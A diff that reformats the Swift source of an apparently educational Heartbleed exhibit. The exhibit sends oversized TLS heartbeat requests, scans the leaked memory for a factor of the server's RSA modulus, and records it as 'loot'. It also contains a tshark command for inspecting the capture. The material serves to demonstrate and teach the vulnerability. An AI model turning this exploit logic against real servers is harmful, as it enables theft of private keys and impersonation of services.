@@ -44,7 +44,8 @@ package enum Heartbleed: Exhibit {
         outcome.truth = [("p", key.p.bigEndian)]
         outcome.connections = [0]
         outcome.reproduce = [
-            "tshark -r FILE -Y 'tls.record.content_type==24' -T fields -e frame.number -e ip.src -e tls.record.length | head -n 4"
+            "tshark -r FILE -Y 'tls.record.content_type==24' -T fields -e frame.number -e ip.src -e tls.record.length "
+                + "| head -n 4"
         ]
         var client = attacker.hello(to: Socket(.server, 443), suite, extensions: [Heartbeat.mayBeSent])
         attacker.awaitFlight(&client)
@@ -52,7 +53,8 @@ package enum Heartbleed: Exhibit {
             case .rsa(let certified)? = try? CertifiedKey.key(inCertificate: leaf)
         else { return outcome }
         outcome.say(HeartbleedNote.begins, frames: [attacker.frame()])
-        let request = Heartbeat(.request, announcing: announced, [0x2a] + attacker.random.octets(Heartbeat.paddingLength))
+        let request = Heartbeat(
+            .request, announcing: announced, [0x2a] + attacker.random.octets(Heartbeat.paddingLength))
         var silent = 0
         while outcome.tries < patience, silent < silences, !client.line.isOver {
             client.line.send(request.record)
@@ -62,14 +64,18 @@ package enum Heartbleed: Exhibit {
                 client.read()
                 return client.others.count > known
             }
-            guard client.others.count > known, let answer = client.others.last.flatMap({ Heartbeat($0.fragment) }) else {
+            guard client.others.count > known, let answer = client.others.last.flatMap({ Heartbeat($0.fragment) })
+            else {
                 silent += 1
                 continue
             }
             if outcome.tries == 1 {
                 outcome.say(
                     HeartbleedNote.asks(announced), frames: [first, attacker.frame()], cite: .rfc(6520, "4"),
-                    [.init("heartbeat request", request.record), .init("what came back, its beginning", Array(answer.rest.prefix(64)))])
+                    [
+                        .init("heartbeat request", request.record),
+                        .init("what came back, its beginning", Array(answer.rest.prefix(64))),
+                    ])
             }
             guard let (factor, place, isLittle) = factor(of: certified.n, in: answer.rest) else { continue }
             outcome.loot = [("p", factor.bigEndian)]
